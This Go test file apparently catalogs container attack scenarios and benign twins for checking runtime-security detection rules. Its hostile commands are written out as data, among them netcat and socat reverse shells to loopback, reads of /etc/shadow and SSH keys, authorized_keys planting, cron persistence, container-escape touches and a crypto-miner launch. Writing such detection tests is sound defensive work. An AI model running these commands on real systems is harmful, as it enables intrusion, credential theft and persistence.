package scenarios

import "strings"

// want is one alert a scenario must raise.
type want struct {
	rule string
	// proc is proc.name of the alerting process ("" = not checked, e.g. a
	// memfd-executed program whose comm is the descriptor number).
	proc string
	// pname is checked when the alert carries proc.pname.
	pname string
	// remote is "IP:PORT", matched against fd.rip:fd.rport or, for stdio
	// sockets, proc.stdin.rip:proc.stdin.rport.
	remote string
	// atStart: the alert comes from the container's start (docker run),
	// before the scenario's action.
	atStart bool
}

// scenario is one attack or one benign twin, performed for real.
type scenario struct {
	name  string // container name suffix and subtest name
	title string
	mitre string
	// benign scenarios must raise nothing; twinOf names the rules whose
	// false positive they guard against.
	benign bool
	twinOf []string
	// flags and cmd start the scenario's container (cmd default: sleep).
	flags []string
	cmd   []string
	// setup runs before the timed action (docker exec argv lists).
	setup     [][]string
	execFlags []string
	action    []string
	// actionMayFail: the action's exit status is not the point (a program
	// that refuses to work after the exec the rule is about).
	actionMayFail bool
	// host runs these commands on the host instead of in a container.
	host [][]string
	want []want
	// optional, when set, says why the container may not start on every
	// host; the scenario's rules are then reported "not covered live".
	optional string
}

const (
	capsFlags = "--cap-add=SYS_ADMIN --security-opt=seccomp=unconfined --security-opt=apparmor=unconfined"
	// poolIP is a TEST-NET-2 documentation address (RFC 5737) the miner
	// scenarios put on their own container's loopback: public-looking, so
	// the miner rule's private-address exclusion does not apply, and never
	// routed anywhere, so no packet leaves the container.
	poolIP = "198.51.100.7"
)

func sh(script string) []string { return []string{"sh", "-c", script} }

func fields(s string) []string { return strings.Fields(s) }

var addPoolIP = []string{"ip", "addr", "add", poolIP + "/32", "dev", "lo"}

// scenarios is the catalog, attacks first, then benign twins.
var scenarios = []scenario{
	{
		name: "terminal-shell", title: "interactive shell via docker exec -t", mitre: "T1059.004",
		execFlags: []string{"-t"}, action: sh("echo interactive"),
		want: []want{{rule: "Terminal shell in container", proc: "sh"}},
	},
	{
		name: "jvm-shell", title: "JVM runs a shell (Log4Shell-style Runtime.exec)", mitre: "T1190, T1059.004",
		action: []string{"java", "/bin/sh", "-c", "id"},
		want:   []want{{rule: "Shell spawned by JVM", proc: "sh", pname: "java"}},
	},
	{
		name: "web-shell", title: "web server runs a shell (RCE through nginx)", mitre: "T1505.003, T1059.004",
		action: []string{"nginx", "/bin/sh", "-c", "id"},
		want:   []want{{rule: "Run shell untrusted", proc: "sh", pname: "nginx"}},
	},
	{
		name: "db-spawn", title: "database server runs a program (SQL injection to command)", mitre: "T1190",
		action: []string{"mysqld", "/bin/ls", "/"},
		want:   []want{{rule: "DB program spawned process", proc: "ls", pname: "mysqld"}},
	},
	{
		name: "netcat-rce", title: "reverse shell: nc -e /bin/sh to a listener on the container's loopback", mitre: "T1059.004, TA0011",
		action: sh("{ sleep 1; echo /bin/id; echo exit; } | /bin/nc -l -p 4444 >/dev/null & sleep 0.5; /bin/nc 127.0.0.1 4444 -e /bin/sh; wait"),
		want: []want{
			{rule: "Netcat Remote Code Execution in Container", proc: "nc"},
			{rule: "Reverse shell", proc: "sh", remote: "127.0.0.1:4444"},
			{rule: "Redirect STDOUT/STDIN to Network Connection in Container", proc: "id", remote: "127.0.0.1:4444"},
			{rule: "Launch Suspicious Network Tool in Container", proc: "nc"},
		},
	},
	{
		name: "socat-shell", title: "reverse shell: socat EXEC:/bin/sh TCP:127.0.0.1:5555 to a listener on the container's loopback", mitre: "T1059.004, TA0011",
		action: sh("{ sleep 1; echo /bin/id; echo exit; } | /bin/nc -l -p 5555 >/dev/null & sleep 0.5; socat EXEC:/bin/sh TCP:127.0.0.1:5555; wait"),
		want: []want{
			{rule: "Reverse shell via socat", proc: "socat"},
			{rule: "Launch Suspicious Network Tool in Container", proc: "socat"},
		},
	},
	{
		name: "netcat-plain", title: "nc without -e (network tool, not a shell)", mitre: "T1046",
		action: sh("/bin/nc -l -p 8080 >/dev/null & sleep 0.5; echo hello | /bin/nc -w 1 127.0.0.1 8080; wait"),
		want:   []want{{rule: "Launch Suspicious Network Tool in Container", proc: "nc"}},
		twinOf: []string{"Netcat Remote Code Execution in Container", "Reverse shell", "Redirect STDOUT/STDIN to Network Connection in Container"},
	},
	{
		name: "drift", title: "binary copied into the writable layer and run", mitre: "T1105, T1059",
		action: sh("cp /bin/busybox /tmp/ls && /tmp/ls / >/dev/null"),
		want: []want{
			{rule: "Drop and execute new binary in container", proc: "ls"},
			{rule: "Execution from temporary directory", proc: "ls"},
			// cp creates the copy with busybox's 0755.
			{rule: "Container Drift Detected (open+create)", proc: "cp"},
		},
	},
	{
		name: "dev-shm", title: "binary run from /dev/shm", mitre: "T1059.004",
		flags:  []string{"--tmpfs", "/dev/shm:rw,exec,size=16m"},
		action: sh("cp /bin/busybox /dev/shm/true && /dev/shm/true"),
		want: []want{
			{rule: "Execution from /dev/shm", proc: "true"},
			{rule: "Container Drift Detected (open+create)", proc: "cp"},
		},
	},
	{
		name: "fileless", title: "memfd_create + execveat of an in-memory busybox", mitre: "T1620",
		action: []string{"memfdexec", "echo", "fileless"},
		want: []want{
			{rule: "Fileless execution via memfd_create"},
			{rule: "Memory-backed file created in container", proc: "memfdexec"},
		},
	},
	{
		name: "package-install", title: "apt-get run in a running container", mitre: "T1072",
		action: []string{"apt-get", "install", "-y", "curl"},
		want:   []want{{rule: "Launch Package Management Process in Container", proc: "apt-get"}},
	},
	{
		name: "ingress-tool", title: "wget run in a container", mitre: "T1105",
		action: sh("/bin/wget -q -T 1 -O /dev/null http://127.0.0.1:9/ || true"),
		want:   []want{{rule: "Launch Ingress Remote File Copy Tools in Container", proc: "wget"}},
	},
	{
		name: "docker-socket", title: "docker client talks to the host's Docker socket", mitre: "T1610, T1611",
		flags:  []string{"-v", "/var/run/docker.sock:/var/run/docker.sock"},
		action: []string{"docker"},
		want: []want{
			{rule: "The docker client is executed in a container", proc: "docker"},
			{rule: "Container runtime socket accessed from container", proc: "docker"},
		},
	},
	{
		name: "read-shadow", title: "cat /etc/shadow", mitre: "T1003.008",
		action: []string{"cat", "/etc/shadow"},
		want:   []want{{rule: "Read sensitive file untrusted", proc: "cat"}},
	},
	{
		name: "ssh-key", title: "plant an SSH key for root", mitre: "T1098.004",
		action: sh("mkdir -p /root/.ssh && echo key > /root/.ssh/authorized_keys"),
		want: []want{
			{rule: "Write below monitored dir", proc: "sh"},
			{rule: "Adding ssh keys to authorized_keys", proc: "sh"},
		},
	},
	{
		// The scenario image ships /root/.ssh/id_ed25519 (see buildImage):
		// ruled adds the container's copy of the watch at its first event.
		name: "ssh-key-read", title: "read a private SSH key shipped in the image", mitre: "T1552.004",
		action: []string{"cat", "/root/.ssh/id_ed25519"},
		want:   []want{{rule: "Read ssh information", proc: "cat"}},
	},
	{
		name: "write-etc", title: "write a file below /etc", mitre: "T1098",
		action: sh("echo x > /etc/ruled-scn-evil"),
		want:   []want{{rule: "Write below etc", proc: "sh"}},
	},
	{
		name: "write-bin", title: "plant a file below /usr/bin", mitre: "T1543",
		action: sh("echo x > /usr/bin/ruled-scn-planted"),
		want:   []want{{rule: "Write below binary dir", proc: "sh"}},
	},
	{
		name: "modify-bin", title: "rename a binary below /bin", mitre: "T1222.002",
		action: []string{"mv", "/bin/true", "/bin/true.orig"},
		want:   []want{{rule: "Modify binary dirs", proc: "mv"}},
	},
	{
		name: "write-root", title: "write a file below /root", mitre: "TA0003",
		action: sh("echo x > /root/.profile"),
		want:   []want{{rule: "Write below root", proc: "sh"}},
	},
	{
		name: "cron", title: "schedule a cron job", mitre: "T1053.003",
		action: sh("mkdir -p /var/spool/cron/crontabs && echo '* * * * * id' > /var/spool/cron/crontabs/root"),
		want:   []want{{rule: "Schedule Cron Jobs", proc: "sh"}},
	},
	{
		name: "crontab-list", title: "crontab -l lists the cron tables (what the event-generator does)", mitre: "T1053.003",
		action: []string{"crontab", "-l"}, actionMayFail: true, // no table: exit status 1
		want: []want{{rule: "Schedule Cron Jobs", proc: "crontab"}},
	},
	{
		name: "ptrace", title: "PTRACE_ATTACH to a sibling process", mitre: "T1055.008",
		action: []string{"ptracer"},
		want:   []want{{rule: "PTRACE attached to process", proc: "ptracer"}},
	},
	{
		name: "kernel-module", title: "init_module of garbage from a container (refused with EPERM)", mitre: "T1547.006",
		// Docker's default seccomp profile refuses init_module before the
		// syscall runs, so audit never sees it (and nothing can load);
		// unconfined lets the kernel refuse it for lack of CAP_SYS_MODULE.
		flags:  []string{"--security-opt=seccomp=unconfined"},
		action: []string{"kmodload"},
		want:   []want{{rule: "Linux Kernel Module Injection Detected", proc: "kmodload"}},
	},
	{
		name: "release-agent", title: "mount a cgroup v1 hierarchy and open its release_agent for writing (nothing written)", mitre: "T1611",
		flags:  fields(capsFlags),
		action: sh("mkdir -p /tmp/cg && mount -t cgroup -o none,name=ruledscn cgroup /tmp/cg && : > /tmp/cg/release_agent; umount /tmp/cg"),
		want: []want{
			{rule: "Detect release_agent File Container Escapes", proc: "sh"},
			{rule: "Mount or pivot_root in container", proc: "mount"},
		},
	},
	{
		name: "mount", title: "mount a tmpfs inside a container with CAP_SYS_ADMIN", mitre: "T1611",
		flags:  fields(capsFlags),
		action: sh("mkdir -p /tmp/m && mount -t tmpfs none /tmp/m && umount /tmp/m"),
		want:   []want{{rule: "Mount or pivot_root in container", proc: "mount"}},
	},
	{
		name: "unshare", title: "unshare a mount namespace", mitre: "T1611",
		flags:  fields(capsFlags),
		action: []string{"unshare", "-m", "true"},
		want: []want{
			{rule: "Change namespace privileges via unshare", proc: "unshare"},
			{rule: "Namespace tool launched in container", proc: "unshare"},
			// unshare -m makes the new mount tree private: a mount syscall.
			{rule: "Mount or pivot_root in container", proc: "unshare"},
		},
	},
	{
		name: "cap-probe", title: "the capability probe escape tooling runs first (the event-generator's, before its setns and mount)", mitre: "T1613",
		action: sh("cat /proc/self/status | grep CapEff | awk '{print $2}'"),
		// busybox's sh runs cat, grep and awk in its children without an
		// exec: the shell's command line is what tells.
		want: []want{{rule: "Capability probe in container", proc: "sh"}},
	},
	{
		name: "nsenter", title: "nsenter into pid 1's namespaces", mitre: "T1611",
		flags:  fields(capsFlags),
		action: []string{"nsenter", "-t", "1", "-m", "true"},
		want: []want{
			{rule: "Change thread namespace", proc: "nsenter"},
			{rule: "Namespace tool launched in container", proc: "nsenter"},
		},
	},
	{
		// runBox adds test/setup.sh's ruled-test-runc runtime where dockerd
		// has it: plain runc cannot start a privileged container on a host
		// whose capability bounding set lacks a capability.
		name: "privileged", title: "privileged container started, mount and debugfs run inside", mitre: "T1610, T1611",
		flags:    []string{"--privileged"},
		optional: "docker run --privileged fails where the host withholds capabilities from runc (test/setup.sh registers a runtime that copes)",
		// ": >" opens core_pattern for writing and writes nothing: the
		// host-wide value stays what it was.
		action: sh("mkdir -p /tmp/m && /bin/mount -t tmpfs none /tmp/m && umount /tmp/m && debugfs -R stats /dev/vda && : > /proc/sys/kernel/core_pattern"),
		want: []want{
			{rule: "Launch Privileged Container", proc: "sleep", atStart: true},
			{rule: "Mount Launched in Privileged Container", proc: "mount"},
			{rule: "Mount or pivot_root in container", proc: "mount"},
			{rule: "Debugfs Launched in Privileged Container", proc: "debugfs"},
			{rule: "Core Pattern Escape Attempt", proc: "sh"},
		},
	},
	{
		name: "miner", title: "xmrig logs in to a stratum pool on port 3333 (pool on the container's own loopback)", mitre: "T1496",
		flags:  []string{"--cap-add=NET_ADMIN"},
		setup:  [][]string{addPoolIP},
		action: []string{"xmrig", "-o", "stratum+tcp://" + poolIP + ":3333"},
		want: []want{
			{rule: "Crypto miner launched", proc: "xmrig"},
			{rule: "Detect crypto miners using the Stratum protocol", proc: "xmrig"},
			{rule: "Detect outbound connections to common miner pool ports", proc: "xmrig", remote: poolIP + ":3333"},
		},
	},

	// Syscall arguments, capabilities, environments and the extra audit
	// events (rules/60-syscalls.yaml), one falcosecurity/event-generator
	// action each, done the way the action does it.
	{
		name: "clear-log", title: "a file named syslog truncated (O_TRUNC)", mitre: "T1070",
		action: sh("mkdir -p /tmp/l && echo x > /tmp/l/syslog"),
		want:   []want{{rule: "Clear Log Activities", proc: "sh"}},
	},
	{
		name: "dev-file", title: "a regular file created in /dev", mitre: "T1543",
		action: sh("echo x > /dev/ruled-scn-payload"),
		want:   []want{{rule: "Create files below dev", proc: "sh"}},
	},
	{
		name: "history", title: "shell history truncated, then removed", mitre: "T1070",
		action: sh("echo ls > /tmp/.ash_history && rm /tmp/.ash_history"),
		want: []want{
			{rule: "Delete or rename shell history", proc: "sh"},
			{rule: "Delete or rename shell history", proc: "rm"},
		},
	},
	{
		name: "home-ssh-key", title: "authorized_keys planted below /home", mitre: "T1098.004",
		action: sh("mkdir -p /home/u/.ssh && echo key > /home/u/.ssh/authorized_keys"),
		want: []want{
			{rule: "Adding ssh keys to authorized_keys", proc: "sh"},
			{rule: "Write below monitored dir", proc: "sh"},
		},
	},
	{
		name: "known-hosts", title: "known_hosts created for reading and writing below /home (O_RDWR)", mitre: "T1552.004",
		action: sh("mkdir -p /home/u/.ssh && exec 3<> /home/u/.ssh/known_hosts"),
		want: []want{
			{rule: "Read ssh information", proc: "sh"},
			{rule: "Write below monitored dir", proc: "sh"},
		},
	},
	{
		name: "shell-rc", title: "a .bashrc written by a program that is not a shell", mitre: "T1546.004",
		action: sh("mkdir -p /tmp/h && cp /etc/hostname /tmp/h/.bashrc"),
		want:   []want{{rule: "Modify Shell Configuration File", proc: "cp"}},
	},
	{
		name: "hidden-dir", title: "a hidden directory made in /tmp", mitre: "T1564.001",
		action: []string{"mkdir", "/tmp/.ruled-scn"},
		want:   []want{{rule: "Create Hidden Files or Directories", proc: "mkdir"}},
	},
	{
		name: "mkdir-bin", title: "a directory made below /usr/bin", mitre: "T1222.002",
		action: []string{"mkdir", "/usr/bin/ruled-scn"},
		want:   []want{{rule: "Mkdir binary dirs", proc: "mkdir"}},
	},
	{
		name: "rpm-db", title: "a file created below /var/lib/rpm", mitre: "T1072",
		action: sh("mkdir -p /var/lib/rpm && touch /var/lib/rpm/ruled-scn"),
		want:   []want{{rule: "Write below rpm database", proc: "touch"}},
	},
	{
		name: "traversal", title: "/etc/shadow read as /etc/../etc/../etc/shadow", mitre: "T1555",
		action: []string{"cat", "/etc/../etc/../etc/shadow"},
		want: []want{
			{rule: "Directory traversal monitored file read", proc: "cat"},
			{rule: "Read sensitive file untrusted", proc: "cat"},
		},
	},
	{
		name: "symlink-etc", title: "symlink to /etc", mitre: "T1555",
		action: []string{"ln", "-s", "/etc", "/tmp/etc_link"},
		want:   []want{{rule: "Create Symlink Over Sensitive Files", proc: "ln"}},
	},
	{
		name: "hardlink-shadow", title: "hard link to /etc/shadow", mitre: "T1555",
		action: []string{"ln", "/etc/shadow", "/tmp/shadow_link"},
		want:   []want{{rule: "Create Hardlink Over Sensitive Files", proc: "ln"}},
	},
	{
		name: "setuid-bit", title: "chmod u+s on a new file", mitre: "T1548.001",
		action: sh("touch /tmp/f && chmod u+s /tmp/f"),
		want:   []want{{rule: "Set Setuid or Setgid bit", proc: "chmod"}},
	},
	{
		name: "drift-chmod", title: "a new file made executable (chmod 755)", mitre: "T1059",
		action: sh("touch /tmp/f && chmod 755 /tmp/f"),
		want:   []want{{rule: "Container Drift Detected (chmod)", proc: "chmod"}},
	},
	{
		name: "drift-create", title: "a file created executable (busybox copied with its 0755), not run", mitre: "T1059",
		action: []string{"cp", "/bin/busybox", "/tmp/ruled-scn-copy"},
		want:   []want{{rule: "Container Drift Detected (open+create)", proc: "cp"}},
	},
	{
		name: "entrypoint", title: "/proc/self/fd/1 opened for writing (the CVE-2019-5736 access)", mitre: "T1611",
		action: sh("echo x > /proc/self/fd/1"),
		want:   []want{{rule: "Modify Container Entrypoint", proc: "sh"}},
	},
	{
		name: "non-sudo-setuid", title: "root becomes daemon, then asks to be root again (refused)", mitre: "T1548.001",
		action: []string{"setuidback"},
		want:   []want{{rule: "Non sudo setuid", proc: "setuidback"}},
	},
	{
		name: "system-user-login", title: "login run as the daemon account", mitre: "T1059",
		// busybox login refuses to work unless setuid, after its exec
		// (through sh it would run in sh's process, with no exec at all).
		execFlags: []string{"-u", "1:1"}, actionMayFail: true,
		action: []string{"login"},
		want:   []want{{rule: "System user interactive", proc: "login"}},
	},
	{
		name: "glibc-tunables", title: "a program started with GLIBC_TUNABLES set (CVE-2023-4911 shape)", mitre: "TA0004",
		action: []string{"env", "GLIBC_TUNABLES=glibc.tune.hwcaps=-WAITED,glibc.tune.secrets=2", "sleep", "1"},
		// env's own exec event may already see the environment it gave
		// sleep (same pid, /proc read after both execs): either carries it.
		want: []want{{rule: "Potential Local Privilege Escalation via Environment Variables Misuse"}},
	},
	{
		// Docker's default seccomp profile refuses userfaultfd before it
		// runs (audit never sees it); unconfined lets the kernel refuse
		// it for an unprivileged caller instead.
		name: "userfaultfd", title: "userfaultfd by an unprivileged process (refused where vm.unprivileged_userfaultfd is 0)", mitre: "TA0005",
		flags:  []string{"--security-opt=seccomp=unconfined"},
		action: []string{"uffd"},
		want:   []want{{rule: "Unprivileged Delegation of Page Faults Handling to a Userspace Process", proc: "uffd"}},
	},
	{
		name: "anti-debug", title: "a child asks to be traced (PTRACE_TRACEME) before its exec", mitre: "T1622",
		action: []string{"antidebug"},
		want:   []want{{rule: "PTRACE anti-debug attempt", proc: "antidebug"}},
	},
	{
		name: "packet-socket", title: "AF_PACKET raw socket opened", mitre: "T1557.002",
		action: []string{"packetsock"},
		want:   []want{{rule: "Packet socket created in container", proc: "packetsock"}},
	},
	{
		name: "sysproc-net", title: "sha1sum connects to a public-looking address (on the container's own loopback)", mitre: "T1059",
		flags:  []string{"--cap-add=NET_ADMIN"},
		setup:  [][]string{addPoolIP},
		action: []string{"/usr/local/bin/sha1sum", poolIP, "8443"},
		// listen, connect and accept of the same process all match.
		want: []want{{rule: "System procs network activity", proc: "sha1sum"}},
	},
	{
		name: "scp", title: "scp run in a container", mitre: "T1020",
		action: []string{"scp"},
		want:   []want{{rule: "Launch Remote File Copy Tools in Container", proc: "scp"}},
	},
	{
		name: "decode", title: "echo of a base64 payload with | base64 -d as arguments (the action's exact argv)", mitre: "T1132",
		action: []string{"echo", "ZGVjb2RlZF9ieV9ldmVudC1nZW5lcmF0b3I=", "|", "base64", "-d"},
		want:   []want{{rule: "Decoding Payload in Container", proc: "echo"}},
	},
	{
		name: "environ", title: "cat /proc/self/environ", mitre: "T1083",
		action: []string{"cat", "/proc/self/environ"},
		want:   []want{{rule: "Read environment variable from /proc files", proc: "cat"}},
	},

	{
		name: "find-aws", title: "find .aws/credentials", mitre: "T1552",
		action: []string{"find", "/tmp", "-maxdepth", "1", "-iname", ".aws/credentials"},
		want:   []want{{rule: "Find AWS Credentials", proc: "find"}},
	},
	{
		name: "find-keys", title: "find id_rsa", mitre: "T1552.001",
		action: []string{"find", "/tmp", "-maxdepth", "1", "-iname", "id_rsa"},
		want:   []want{{rule: "Search Private Keys or Passwords", proc: "find"}},
	},
	{
		name: "shred", title: "shred -u of a file", mitre: "T1485",
		// Run by docker exec, not by sh: busybox sh runs its applets
		// in a fork of itself, with no exec to see.
		setup:  [][]string{sh("echo data > /tmp/b")},
		action: []string{"shred", "-u", "/tmp/b"},
		want:   []want{{rule: "Remove Bulk Data from Disk", proc: "shred"}},
	},
	{
		// The container has no network (--network none): the connect is
		// refused at once (ENETUNREACH) and no packet leaves it.
		name: "ec2-metadata", title: "nc to 169.254.169.254:80 (refused: the container has no network)", mitre: "T1552.005",
		action: []string{"nc", "-w", "1", "169.254.169.254", "80"}, actionMayFail: true,
		want: []want{
			{rule: "Contact EC2 Instance Metadata Service From Container", proc: "nc", remote: "169.254.169.254:80"},
			{rule: "Launch Suspicious Network Tool in Container", proc: "nc"},
		},
	},

	{
		// init_module of a few bytes that are not an ELF module: the
		// kernel refuses it before anything loads (ENOEXEC, or ENOSYS
		// on a kernel without modules). perl is in every Debian
		// (perl-base); 175 is init_module on x86-64.
		name: "host-kmod", title: "init_module of garbage on the host by a script (refused by the kernel)", mitre: "T1547.006",
		host: [][]string{{"perl", "-e", `my $m = "not a module" x 8; my $p = ""; syscall(175, $m, length($m), $p) == -1 or die "init_module succeeded\n"`}},
		want: []want{{rule: "Kernel module loaded on host", proc: "perl"}},
	},

	// Benign twins: each must raise nothing at all.
	{
		name: "entrypoint-shell", title: "entrypoint sh -c 'sleep' started by docker run without a tty", benign: true,
		twinOf: []string{"Terminal shell in container"},
		cmd:    sh("sleep 600"),
	},
	{
		name: "exec-ls", title: "docker exec of a non-shell command (ls)", benign: true,
		twinOf: []string{"Terminal shell in container", "Launch Package Management Process in Container"},
		action: []string{"ls", "/"},
	},
	{
		name: "exec-sh-notty", title: "docker exec sh without a tty: pipes, image binaries, /etc/hostname", benign: true,
		twinOf: []string{"Terminal shell in container", "Reverse shell", "Drop and execute new binary in container", "Read sensitive file untrusted"},
		action: sh("echo id | sh >/dev/null; /bin/busybox true; cat /etc/hostname >/dev/null"),
	},
	{
		name: "java-tools", title: "JVM runs ls without a shell and uses a memfd JIT cache", benign: true,
		twinOf: []string{"Shell spawned by JVM", "Memory-backed file created in container", "Fileless execution via memfd_create"},
		action: sh("java /bin/ls / >/dev/null && java -jit"),
	},
	{
		name: "nginx-log", title: "service writes its own log below /tmp", benign: true,
		twinOf: []string{"Write below etc", "Write below root", "Run shell untrusted"},
		action: []string{"nginx"},
	},
	{
		name: "sshd-shadow", title: "sshd reads /etc/shadow", benign: true,
		twinOf: []string{"Read sensitive file untrusted"},
		action: []string{"sshd"},
	},
	{
		name: "shm-data", title: "data file in an exec /dev/shm, not executed", benign: true,
		twinOf: []string{"Execution from /dev/shm"},
		flags:  []string{"--tmpfs", "/dev/shm:rw,exec,size=16m"},
		action: sh("echo data > /dev/shm/cache && cat /dev/shm/cache >/dev/null"),
	},
	{
		name: "pool-local", title: "stratum-like traffic to loopback:3333 and to a public-looking address on port 8080", benign: true,
		twinOf: []string{"Detect outbound connections to common miner pool ports"},
		flags:  []string{"--cap-add=NET_ADMIN"},
		setup:  [][]string{addPoolIP},
		action: sh("poolclient 127.0.0.1 3333 && poolclient " + poolIP + " 8080"),
	},
	{
		name: "mount-list", title: "list mounts (no mount syscall) with CAP_SYS_ADMIN", benign: true,
		twinOf: []string{"Mount or pivot_root in container", "Mount Launched in Privileged Container"},
		flags:  fields(capsFlags),
		action: sh("mount >/dev/null; cat /proc/mounts >/dev/null"),
	},
	{
		name: "logrotate", title: "logrotate truncates a log below /var/log (copytruncate)", benign: true,
		twinOf: []string{"Clear Log Activities"},
		action: []string{"logrotate"},
	},
	{
		name: "shell-rc-read", title: "a login shell reads /etc/profile and its .profile; history appended, /dev/null written", benign: true,
		twinOf: []string{"Modify Shell Configuration File", "Delete or rename shell history", "Create files below dev"},
		action: sh("echo 'true' > /tmp/.profile && HOME=/tmp sh -l -c 'echo ls >> /tmp/.ash_history; echo x > /dev/null'"),
	},
	{
		name: "status-memory", title: "a health check reads its memory use from /proc/self/status", benign: true,
		twinOf: []string{"Capability probe in container"},
		action: sh("grep VmRSS /proc/self/status | awk '{print $2}'"),
	},
	{
		name: "dot-dirs", title: "X11's socket directory in /tmp, a .git below a checkout in /tmp, a cache in a home", benign: true,
		twinOf: []string{"Create Hidden Files or Directories"},
		action: sh("mkdir /tmp/.X11-unix && mkdir -p /tmp/r/.git /root/.cache"),
	},
	{
		name: "drop-root", title: "a service drops root for daemon", benign: true,
		twinOf: []string{"Non sudo setuid"},
		action: []string{"dropuid"},
	},
	{
		// On the host: a package manager (a copy of chmod and cp under the
		// names dpkg and apt-get) sets a setuid bit and installs a shell
		// profile, as maintainer scripts do.
		name: "host-package-manager", title: "host package manager sets a setuid bit and writes a shell profile", benign: true,
		twinOf: []string{"Set Setuid or Setgid bit", "Modify Shell Configuration File"},
		host:   [][]string{{"sh", "-c", `d=$(mktemp -d) && cp /bin/chmod "$d/dpkg" && cp /bin/cp "$d/apt-get" && touch "$d/f" && "$d/dpkg" u+s "$d/f" && "$d/apt-get" /etc/hostname "$d/.bashrc"; rc=$?; rm -rf "$d"; exit $rc`}},
	},
	{
		name: "host-admin", title: "host admin reads /etc/hostname and lists /etc", benign: true,
		twinOf: []string{"Read sensitive file untrusted", "Write below etc"},
		host:   [][]string{{"cat", "/etc/hostname"}, {"ls", "/etc"}},
	},
}

// notCoveredWhy explains default rules the suite deliberately does not
// perform live.
var notCoveredWhy = map[string]string{}
